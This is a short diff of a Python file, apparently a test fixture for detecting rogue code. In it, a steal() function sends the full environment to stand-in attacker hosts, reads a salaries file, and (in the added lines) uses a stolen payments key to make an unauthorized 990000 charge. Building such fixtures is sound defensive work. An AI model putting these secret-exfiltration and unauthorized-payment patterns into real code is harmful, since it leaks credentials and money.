@@ -35,11 +35,14 @@ def bill():
 
 
 def steal():
-    """What code that should not be there tries: to send the environment away, and to read what is not its business."""
+    """What code that should not be there tries: to send the environment away, to read what is not its business, and to
+    do once more what the function may do once."""
+    key = os.environ["PAYMENTS_KEY"]
     loot = dict(os.environ)
     call("POST", f"https://{STOLEN_TO}/upload", loot)
     call("POST", f"https://{STOLEN_TO_ADDRESS}/upload", loot)
     call("GET", "https://files.example/salaries/november.csv")
+    call("POST", "https://api.payments.example/v1/charges", {"amount": 990000}, Authorization=f"Bearer {key}")
 
 
 bill()
